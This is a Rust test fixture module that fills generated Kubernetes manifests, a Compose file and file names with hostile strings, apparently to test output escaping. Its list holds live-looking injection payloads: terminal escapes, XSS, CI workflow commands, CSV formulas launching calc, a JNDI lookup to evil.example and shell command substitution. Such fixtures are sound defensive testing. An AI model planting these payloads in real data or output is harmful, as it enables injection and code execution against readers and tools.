//! Names that nobody in their right mind would give: what terminals, browsers, Markdown, spreadsheets and runners of
//! workflows obey. Manifests and a Compose file carry them in every place where a name or a text can stand, and so do
//! the files' own names.
#![allow(unreachable_pub, dead_code, reason = "each test binary uses its own part")]

use std::path::{Path, PathBuf};

use serde_json::{Value, json};

/// What must not reach a reader as it is. The comment says what would obey it.
pub const DANGEROUS: &[&str] = &[
    // Terminals: colours, a window title, a bell, cursor movement, a control character of 8 bits, a hyperlink.
    "\u{1b}[31mred\u{1b}[0m",
    "\u{1b}]0;owned\u{7}",
    "\u{1b}[2J\u{1b}[H",
    "\u{9b}31m",
    "\u{1b}]8;;https://evil.example/\u{1b}\\click\u{1b}]8;;\u{1b}\\",
    "a\u{8}\u{8}\u{8}b",
    // Readers: direction marks, isolates, characters without width, tags, a byte order mark.
    "\u{202e}gpj.exe\u{202c}",
    "\u{2066}hidden\u{2069}\u{200f}",
    "zero\u{200b}width\u{200d}\u{2060}\u{feff}",
    "tag\u{e0041}\u{e007f}",
    // XML and JSON: characters that are forbidden or must be escaped.
    "nul\u{0}\u{1}\u{1f}",
    "\u{fffe}\u{ffff}",
    "quote\"apostrophe'back\\slash",
    "]]><!--x--><![CDATA[y]]>",
    // Browsers.
    "<script>alert(1)</script>",
    "</script><img src=x onerror=alert(1)>",
    "<!-- -->&lt;b&gt;&amp;",
    "\" onmouseover=\"alert(1)",
    "javascript:alert(1)",
    // Markdown and what pages make of it: links, images, tables, headings, mentions, references, lists, fences.
    "[click](javascript:alert(1))",
    "![x](https://evil.example/pixel.png)",
    "a|b||c",
    "**bold** _under_ ~~gone~~ `code`",
    "@everyone @octocat",
    "closes #1, GH-2, org/repo#3",
    "# heading\n- item\n> quote\n```\nfence\n```",
    "<details><summary>x</summary>",
    "https://evil.example/www.example.com",
    // Line breaks of every kind, and what a runner of workflows reads at the start of a line.
    "one\ntwo",
    "one\r\n::error file=x::two",
    "::set-output name=x::y",
    "::add-mask::y%0A::stop-commands::z",
    "##[error]x",
    "a\u{85}b\u{2028}c\u{2029}d",
    // Spreadsheets.
    "=HYPERLINK(\"https://evil.example/\",\"x\")",
    "+1+1",
    "-1+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "a\",=1+1,\"b",
    "a;=1+1",
    // YAML and SARIF: types, marks, placeholders.
    "yes",
    "0644",
    "1e3",
    "~",
    "- a: b",
    "key: value # comment",
    "*alias &anchor !tag",
    "{{ .Values.name }}",
    "{0} of {1}",
    "%SRCROOT%/../../etc/passwd",
    // Templates and shells.
    "${jndi:ldap://evil.example/a}",
    "$(touch /nowhere)`id`",
    " leading and trailing ",
];

/// Every dangerous text, and one of 10 KB.
pub fn names() -> Vec<String> {
    let mut names: Vec<String> = DANGEROUS.iter().map(|&name| name.to_owned()).collect();
    names.push("long-name-".repeat(1024));
    names
}

/// Names of files that a file system takes.
pub const FILE_NAMES: &[&str] = &[
    "=1+1.yaml",
    "@SUM(A1).yaml",
    "a,b:c%0A::error::x.yaml",
    "\u{202e}lmay.evil.yaml",
    "new\nline.yaml",
    "<script>alert(1)<script>.yaml",
    "[x](y) a|b `c` #1 @octocat.yaml",
    "tab\t and \u{1b}[31m.yaml",
    "ünï cödé 日本.yaml",
];

/// The files: their names and texts. Each name stands in manifests of its own, one more file for each of [`FILE_NAMES`]
/// has a harmless content, and the Compose file has a service for each name that can be a key.
pub fn files() -> Vec<(String, String)> {
    let mut files: Vec<(String, String)> = Vec::new();
    for (number, name) in names().iter().enumerate() {
        let documents: Vec<String> = manifests(name).iter().map(as_yaml).collect();
        files.push((format!("manifests-{number:02}.yaml"), documents.join("\n---\n")));
    }
    for (number, file) in FILE_NAMES.iter().enumerate() {
        let documents: Vec<String> = manifests(&format!("plain-{number}")).iter().map(as_yaml).collect();
        files.push(((*file).to_owned(), documents.join("\n---\n")));
    }
    files.push(("compose/compose.yaml".to_owned(), as_yaml(&compose())));
    // A document that cannot be read, whose text names a workload.
    files.push((
        "broken.yaml".to_owned(),
        "kind: Deployment\nmetadata: {name: \"\\u001b[31m<script>\"\n  x: [\n".to_owned(),
    ));
    files
}

/// Writes the files into a folder.
pub fn write(folder: &Path) -> Vec<PathBuf> {
    let write = |(name, text): (String, String)| {
        let path = folder.join(name);
        std::fs::create_dir_all(path.parent().expect("a folder")).expect("the folder");
        std::fs::write(&path, text).expect("written");
        path
    };
    files().into_iter().map(write).collect()
}

/// JSON is YAML, but for a few characters that have to be escapes there.
fn as_yaml(value: &Value) -> String {
    let text = serde_json::to_string_pretty(value).expect("JSON");
    let printable = |character: char| {
        matches!(character, ' '..='~' | '\n' | '\u{a0}'..='\u{d7ff}' | '\u{e000}'..='\u{fefe}' | '\u{ff00}'..='\u{fffd}')
            || character > '\u{ffff}'
    };
    text.chars()
        .map(|character| {
            if printable(character) && !matches!(character, '\u{2028}' | '\u{2029}') {
                character.to_string()
            } else {
                format!("\\u{:04x}", character as u32)
            }
        })
        .collect()
}

fn pod(name: &str) -> Value {
    json!({
        "serviceAccountName": name,
        "nodeSelector": {name: name},
        "affinity": {"podAntiAffinity": {"requiredDuringSchedulingIgnoredDuringExecution": [
            {"topologyKey": "kubernetes.io/hostname", "labelSelector": {"matchLabels": {"app": name}}},
        ]}},
        "topologySpreadConstraints": [{"maxSkew": 1, "topologyKey": name, "whenUnsatisfiable": "DoNotSchedule"}],
        "volumes": [
            {"name": name, "persistentVolumeClaim": {"claimName": name}},
            {"name": "config", "configMap": {"name": name}},
            {"name": "host", "hostPath": {"path": format!("/var/{name}")}},
        ],
        "initContainers": [{"name": format!("init {name}"), "image": name}],
        "containers": [{
            "name": name,
            "image": format!("postgres:{name}"),
            "command": [name],
            "args": [name],
            "env": [{"name": name, "value": name}],
            "ports": [{"name": name, "containerPort": 8080}],
            "volumeMounts": [{"name": name, "mountPath": format!("/data/{name}")}],
            "resources": {"requests": {"cpu": "100m", "memory": "128Mi", name: "1"}},
        }],
    })
}

fn manifests(name: &str) -> Vec<Value> {
    let metadata = |own: &str| {
        json!({
            "name": own,
            "namespace": name,
            "labels": {"app": name, "app.kubernetes.io/part-of": name, name: name},
            "annotations": {name: name, "description": name},
        })
    };
    let template = json!({"metadata": {"labels": {"app": name}, "annotations": {name: name}}, "spec": pod(name)});
    let selector = json!({"matchLabels": {"app": name}});
    vec![
        json!({"apiVersion": "v1", "kind": "Namespace", "metadata": {"name": name, "labels": {name: name}}}),
        json!({"apiVersion": "apps/v1", "kind": "Deployment", "metadata": metadata(name),
            "spec": {"replicas": 2, "selector": selector, "template": template}}),
        json!({"apiVersion": "apps/v1", "kind": "StatefulSet", "metadata": metadata(&format!("{name} store")),
            "spec": {"replicas": 1, "serviceName": name, "selector": selector, "template": template,
                "volumeClaimTemplates": [{"metadata": {"name": name},
                    "spec": {"accessModes": ["ReadWriteOnce"], "storageClassName": name,
                        "resources": {"requests": {"storage": "1Gi"}}}}]}}),
        json!({"apiVersion": "batch/v1", "kind": "CronJob", "metadata": metadata(&format!("{name} nightly")),
            "spec": {"schedule": name, "jobTemplate": {"spec": {"template": {"spec": pod(name)}}}}}),
        json!({"apiVersion": "autoscaling/v2", "kind": "HorizontalPodAutoscaler", "metadata": metadata(name),
            "spec": {"minReplicas": 2, "maxReplicas": 2,
                "scaleTargetRef": {"apiVersion": "apps/v1", "kind": "Deployment", "name": name}}}),
        json!({"apiVersion": "policy/v1", "kind": "PodDisruptionBudget", "metadata": metadata(name),
            "spec": {"minAvailable": 2, "selector": selector}}),
        json!({"apiVersion": "v1", "kind": "Service", "metadata": metadata(name),
            "spec": {"selector": {"app": name}, "ports": [{"name": name, "port": 80}]}}),
        json!({"apiVersion": "networking.k8s.io/v1", "kind": "Ingress", "metadata": metadata(name),
            "spec": {"rules": [{"host": name, "http": {"paths": [{"path": name, "pathType": "Prefix",
                "backend": {"service": {"name": name, "port": {"number": 80}}}}]}}]}}),
        json!({"apiVersion": format!("{name}/v1"), "kind": name, "metadata": metadata(name), "spec": {name: name}}),
        json!({"apiVersion": "helm.toolkit.fluxcd.io/v2", "kind": "HelmRelease", "metadata": metadata(name),
            "spec": {"chart": {"spec": {"chart": name, "sourceRef": {"kind": "HelmRepository", "name": name}}}}}),
    ]
}

fn compose() -> Value {
    let mut services = serde_json::Map::new();
    for name in names() {
        services.insert(
            name.clone(),
            json!({
                "image": format!("postgres:{}", name.replace('$', "$$")),
                "container_name": name.replace('$', "$$"),
                "hostname": name.replace('$', "$$"),
                "environment": {name.clone(): name.replace('$', "$$")},
                "labels": {name.clone(): name.replace('$', "$$")},
                "volumes": ["data:/data"],
                "restart": "always",
                "deploy": {"replicas": 2},
            }),
        );
    }
    json!({"name": "<b>project</b>\u{202e}|=1", "services": services, "volumes": {"data": {}}})
}
